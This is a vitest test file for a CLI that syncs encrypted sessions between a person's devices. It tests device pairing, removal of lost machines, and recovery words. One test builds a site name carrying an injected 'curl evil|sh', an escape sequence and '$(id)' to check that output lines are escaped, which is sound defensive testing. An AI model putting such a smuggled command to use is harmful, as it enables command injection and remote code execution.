import { lstat, mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { letInLines } from "../../native-host/commands/devices.js"
import { fileMemory } from "../../native-host/home-vault.js"
import { readIdentity } from "../../native-host/identity-file.js"
import { openStore } from "../../native-host/stores.js"
import { createCard, createIdentity, parseCard } from "../../shared/keys.js"
import { openVault } from "../../shared/vault.js"
import { exampleSnapshot } from "../shared/example-snapshot.js"
import { laterCard } from "../shared/vault/devices.js"
import { temporaryFolder } from "./bundle.js"
import { runPsp, type Said } from "./psp.js"

let folder: string
let store: string
let laptop: Env
let desktop: Env
type Env = Record<string, string> & { PSP_HOME: string }

beforeEach(async () => {
  folder = await temporaryFolder()
  store = pathToFileURL(join(folder, "store")).href
  ;[laptop, desktop] = [homeOf("laptop"), homeOf("desktop")]
  for (const [name, env] of Object.entries({ laptop, desktop })) await psp(env, "keygen", "--name", name)
})
afterEach(() => rm(folder, { recursive: true, force: true }))

const homeOf = (name: string): Env => ({ PSP_HOME: join(folder, name), HOME: folder, PSP_STORE: store })

async function psp(env: Env, ...args: string[]): Promise<Said> {
  return runPsp(args, env)
}

async function told(env: Env, answer: string, ...args: string[]): Promise<Said> {
  return runPsp(args, env, { ask: () => Promise.resolve(answer), readSecret: () => Promise.resolve(answer) })
}

const cardOf = async (env: Env) => (await psp(env, "card")).out.trim()

async function save(env: Env, token: string, site = "example.com"): Promise<void> {
  const provider = await openStore(store, {}, env.PSP_HOME)
  const identity = await readIdentity(env.PSP_HOME, {})
  const vault = await openVault(provider, { identity, memory: fileMemory(env.PSP_HOME) })
  await vault.save(exampleSnapshot(site, "default", token))
}

async function devicesAt(env: Env): Promise<string[]> {
  const { out } = await psp(env, "devices", "--json")
  const { devices } = JSON.parse(out) as { devices: { name: string; isThis: boolean }[] }
  return devices.map(({ name, isThis }) => (isThis ? `${name} (this)` : name))
}

const cookieAt = async (env: Env) =>
  /canary-cookie-(\w+)/.exec((await psp(env, "restore", "example.com", "--format", "playwright")).out)?.[1]

async function joinDesktop(): Promise<void> {
  expect(await psp(desktop, "trust", await cardOf(laptop), "--yes")).toMatchObject({ code: 0 })
  expect(await psp(laptop, "devices", "add", await cardOf(desktop), "--yes")).toMatchObject({ code: 0 })
}

describe("a second machine of the same person", () => {
  it("joins by card, with the words shown on both, and opens and saves everything from then on", async () => {
    await save(laptop, "one")
    const card = await cardOf(desktop)
    const words = (await psp(desktop, "card")).err.trim().replace(/^desktop: /, "")
    expect(await psp(laptop, "devices", "add", card)).toMatchObject({ code: 2, out: "" })
    expect(await told(laptop, "n", "devices", "add", card)).toMatchObject({ code: 4, out: "" })
    expect(await devicesAt(laptop)).toEqual(["laptop (this)"])
    const trusted = await told(desktop, "y", "trust", await cardOf(laptop))
    expect(trusted).toMatchObject({ code: 0 })
    expect(await cookieAt(desktop)).toBeUndefined()
    const added = await told(laptop, "y", "devices", "add", card)
    expect(added).toMatchObject({ code: 0, err: `desktop: ${words}\n` })
    expect(await cookieAt(desktop)).toBe("one")
    expect(await devicesAt(desktop)).toEqual(["desktop (this)", "laptop"])
    await save(desktop, "two")
    expect(await cookieAt(laptop)).toBe("two")
    expect((await psp(laptop, "audit")).out).toMatch(/added +laptop +psp devices add .*: device desktop/)
  })

  it("joins also when the old machine is told first", async () => {
    await save(laptop, "one")
    const { out } = await psp(laptop, "devices", "add", await cardOf(desktop), "--yes")
    const trust = out.trim().split("\n").at(-1)?.trim().split(" ").slice(1) ?? []
    expect(await psp(desktop, ...trust, "--yes")).toMatchObject({ code: 0 })
    expect(await cookieAt(desktop)).toBe("one")
  })

  it("with a card that is cut off or of a newer version adds nothing", async () => {
    const card = await cardOf(desktop)
    expect(await psp(laptop, "devices", "add", card.slice(0, -3), "--yes")).toMatchObject({ code: 4, out: "" })
    const later = laterCard(card)
    for (const words of [
      ["devices", "add", later, "--yes"],
      ["trust", laterCard(await cardOf(laptop)), "--yes"],
    ]) {
      const { code, out, err } = await psp(words[0] === "trust" ? desktop : laptop, ...words)
      expect({ code, out, err }).toEqual({
        code: 5,
        out: "",
        err: "psp: Cannot read card: it was made by a newer version\n",
      })
    }
    expect(await devicesAt(laptop)).toEqual(["laptop (this)"])
    expect(await fileMemory(desktop.PSP_HOME).read()).toBeNull()
  })
})

describe("a lost machine", () => {
  beforeEach(async () => {
    await save(laptop, "one")
    await joinDesktop()
  })

  it("is noted as removed once, also where the run that removed it broke off before that", async () => {
    await joinDesktop()
    await save(laptop, "one")
    const provider = await openStore(store, {}, laptop.PSP_HOME)
    const identity = await readIdentity(laptop.PSP_HOME, {})
    const vault = await openVault(provider, { identity, memory: fileMemory(laptop.PSP_HOME) })
    await vault.removeOwner("desktop")
    const noted = async () => (await psp(laptop, "audit")).out.match(/removed .*: device desktop/g)
    expect(await noted()).toBeNull()
    for (let run = 0; run < 2; run++) {
      expect(await psp(laptop, "devices", "remove", "desktop", "--yes")).toMatchObject({ code: 0 })
      expect(await noted()).toHaveLength(1)
    }
  })

  it("is removed by name, and then opens nothing that is saved later", async () => {
    expect(await psp(desktop, "devices", "remove", "laptop")).toMatchObject({ code: 2, out: "" })
    expect(await told(desktop, "n", "devices", "remove", "laptop")).toMatchObject({ code: 1, out: "" })
    const removed = await told(desktop, "y", "devices", "remove", "laptop")
    expect(removed).toMatchObject({ code: 0 })
    expect(removed.out).toMatch(/^Removed: laptop \((?:\w+ ){5}\w+\)\. 1 session sealed anew, \d+ objects removed\./)
    await save(desktop, "two")
    expect(await devicesAt(desktop)).toEqual(["desktop (this)"])
    expect(await cookieAt(desktop)).toBe("two")
    const refused = await psp(laptop, "restore", "example.com", "--format", "curl")
    expect(refused).toMatchObject({ code: 4, out: "" })
    expect(refused.err).toContain("was removed")
    expect(await psp(laptop, "capture", "example.com", "--from", join(folder, "nothing"))).not.toMatchObject({
      code: 0,
    })
    expect((await psp(desktop, "verify")).code).toBe(0)
    expect((await psp(desktop, "audit")).out).toMatch(/removed +desktop +psp devices remove .*: device laptop/)
  })

  it("that wrote a command into the name of a site gets no line that runs it", async () => {
    const card = await parseCard(await createCard(await createIdentity("ci-1")))
    const site = "example.com; curl evil|sh \u001b[2J$(id)"
    const grant = { card, site, account: "default", sites: [site], kinds: "all" as const, names: null, saveBack: false }
    const granted = { ...grant, expiresAt: null, grantedAt: 0, hasEnded: false }
    const [, line = ""] = letInLines({ devices: [], grants: [granted], untold: 0 })
    expect(line).not.toContain("\u001b")
    expect(line).toMatch(/ '[^']*'$/)
  })

  it("is told with what it had let in, and the lines that take that out", async () => {
    const [phone, bot] = [homeOf("phone"), homeOf("bot")]
    await psp(phone, "keygen", "--name", "phone")
    await psp(bot, "keygen", "--name", "ci-1")
    await psp(desktop, "devices", "add", await cardOf(phone), "--yes")
    await psp(desktop, "grant", await cardOf(bot), "example.com", "--yes")
    const { out } = await psp(laptop, "devices", "remove", "desktop", "--yes")
    const lines = [...out.matchAll(/^ {2}the (.*): psp (.*)$/gm)].map(([, what, line]) => [what, line])
    expect(lines.map(([what]) => what)).toEqual(["owner device phone", "bot ci-1 at example.com"])
    const again = await psp(laptop, "devices", "remove", "desktop", "--yes", "--json")
    expect(JSON.parse(again.out)).toMatchObject({
      letIn: { devices: [{ name: "phone" }], grants: [{ bot: { name: "ci-1" }, site: "example.com" }], untold: 0 },
    })
    for (const [, line = ""] of lines) {
      const words = [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? "")
      expect(await psp(laptop, ...words, ...(words[0] === "devices" ? ["--yes"] : []))).toMatchObject({ code: 0 })
    }
    expect(await devicesAt(laptop)).toEqual(["laptop (this)"])
    expect((await psp(laptop, "devices", "remove", "desktop", "--yes")).out).not.toContain("had let in")
  })

  it("cannot be this one, nor one that the vault does not know", async () => {
    const { code, err } = await psp(desktop, "devices", "remove", "desktop", "--yes")
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("from another owner device") as string })
    expect(await psp(desktop, "devices", "remove", "phone", "--yes")).toMatchObject({ code: 3 })
    await psp(desktop, "devices", "remove", "laptop", "--yes")
    expect((await psp(desktop, "devices", "remove", "desktop", "--yes")).err).toContain("only owner device")
    expect(await psp(desktop, "devices", "add", await cardOf(laptop), "--yes")).toMatchObject({ code: 2 })
  })
})

describe("psp recover", () => {
  it("with the words on a new machine opens everything, and takes the lost one out", async () => {
    await save(laptop, "one")
    const created = await psp(laptop, "recovery", "create")
    expect(created).toMatchObject({ code: 0, err: expect.stringContaining("Write them down") as string })
    const words = [...created.out.matchAll(/(\d+) ([a-z]+)/g)].map(([, , word]) => word ?? "")
    expect(words).toHaveLength(24)
    await save(laptop, "two")
    const phone = homeOf("new")
    const wrong = await told(phone, words.with(4, "canary").join(" "), "recover")
    expect(wrong).toMatchObject({
      code: 4,
      out: "",
      err: expect.stringContaining("word 5 is not in the list") as string,
    })
    expect(wrong.err).not.toContain("canary")
    expect(await psp(phone, "recover")).toMatchObject({ code: 2 })
    const recovered = await told(phone, words.join(" "), "recover", "--name", "new", "--remove-lost", "laptop")
    expect(recovered).toMatchObject({ code: 0, out: expect.stringContaining("Removed: laptop") as string })
    expect(recovered.out + recovered.err).not.toContain(words.slice(0, 3).join(" "))
    expect(await devicesAt(phone)).toEqual(["new (this)", "recovery"])
    expect(await cookieAt(phone)).toBe("two")
    await save(phone, "three")
    expect(await cookieAt(laptop)).toBeUndefined()
    // Once more, as after it broke off: the machine stays the one that it became.
    expect(await told(phone, words.join("\n"), "recover")).toMatchObject({ code: 0 })
    expect(await devicesAt(phone)).toEqual(["new (this)", "recovery"])
    expect((await psp(phone, "audit")).out).toMatch(/recovered +new +psp recover/)
    expect(await textsIn(phone.PSP_HOME)).not.toContain(words.slice(0, 3).join(" "))
    const doctor = JSON.parse((await psp(phone, "doctor", "--json")).out) as {
      findings: { what: string; detail: string }[]
    }
    expect(doctor.findings.find(({ what }) => what === "recovery")?.detail).toContain("exists")
  })

  it("is noted once, also where the run that added the machine broke off before that", async () => {
    await save(laptop, "one")
    const file = join(folder, "paper")
    await psp(laptop, "recovery", "create", "--out", file)
    const phone = homeOf("new")
    await psp(phone, "keygen", "--name", "phone")
    // What it does up to there.
    const provider = await openStore(store, {}, laptop.PSP_HOME)
    const identity = await readIdentity(laptop.PSP_HOME, {})
    const vault = await openVault(provider, { identity, memory: fileMemory(laptop.PSP_HOME) })
    await vault.addOwner(await cardOf(phone))
    const noted = async () => (await psp(phone, "audit")).out.match(/recovered .*psp recover/g)
    for (let run = 0; run < 2; run++) {
      expect(await psp(phone, "recover", "--from", file)).toMatchObject({ code: 0 })
      expect(await noted()).toHaveLength(1)
    }
  })

  it("is asked for anew where it knows none of the devices that are left", async () => {
    await save(laptop, "one")
    const created = await psp(laptop, "recovery", "create", "--json")
    const { fingerprint } = JSON.parse(created.out) as { fingerprint: string }
    const finding = async (env: Env) =>
      /^.*recovery: .*\n.*$/m.exec((await psp(env, "doctor")).out)?.[0].replace(/\s+/g, " ") ?? ""
    expect(await finding(laptop)).toContain("a recovery identity exists ")
    await joinDesktop()
    const removed = await psp(desktop, "devices", "remove", "laptop", "--yes")
    expect(removed.out).toContain(`end the old one with psp devices remove "${fingerprint}"`)
    expect(await finding(desktop)).toMatch(
      /note recovery: .* knows none of your devices of now, .* psp recovery create$/,
    )
    await psp(desktop, "recovery", "create")
    expect(await finding(desktop)).toContain("a recovery identity exists ")
    const rotated = await psp(desktop, "rotate-key")
    expect(rotated.out).toContain(`end the old one with psp devices remove "${fingerprint}"`)
  })

  it("with a file does the same, and the file is for its owner only and never replaces one", async () => {
    await save(laptop, "one")
    const file = join(folder, "paper")
    expect(await psp(laptop, "recovery", "create", "--out", file)).toMatchObject({ code: 0 })
    if (process.platform !== "win32") expect((await lstat(file)).mode & 0o777).toBe(0o600)
    expect(await psp(laptop, "recovery", "create", "--out", file)).toMatchObject({ code: 2 })
    const phone = homeOf("new")
    expect(await psp(phone, "recover", "--from", file)).toMatchObject({ code: 0 })
    expect(await cookieAt(phone)).toBe("one")
    expect((await psp(laptop, "devices")).out.match(/recovery/g)).toHaveLength(1)
  })

  it("leaves a machine alone that has another vault with sessions in it, and says when the words open nothing", async () => {
    await save(laptop, "one")
    const file = join(folder, "paper")
    await psp(laptop, "recovery", "create", "--out", file)
    await save(desktop, "mine")
    expect(await psp(desktop, "recover", "--from", file)).toMatchObject({ code: 4, out: "" })
    expect(await cookieAt(desktop)).toBe("mine")
    const elsewhere = { ...homeOf("new"), PSP_STORE: pathToFileURL(join(folder, "empty")).href }
    await mkdir(join(folder, "empty"))
    expect(await psp(elsewhere, "recover", "--from", file)).toMatchObject({ code: 4, out: "" })
    await writeFile(join(folder, "words"), (await psp(laptop, "recovery", "create")).out)
    expect(await psp(elsewhere, "recover", "--from", join(folder, "words"))).toMatchObject({ code: 3, out: "" })
    expect(await psp(homeOf("new"), "recover", "--from", join(folder, "words"))).toMatchObject({ code: 0 })
  })
})

async function textsIn(path: string): Promise<string> {
  const texts: string[] = []
  for (const entry of await readdir(path, { recursive: true, withFileTypes: true })) {
    if (entry.isFile()) texts.push(await readFile(join(entry.parentPath, entry.name), "latin1"))
  }
  return texts.join("\n")
}
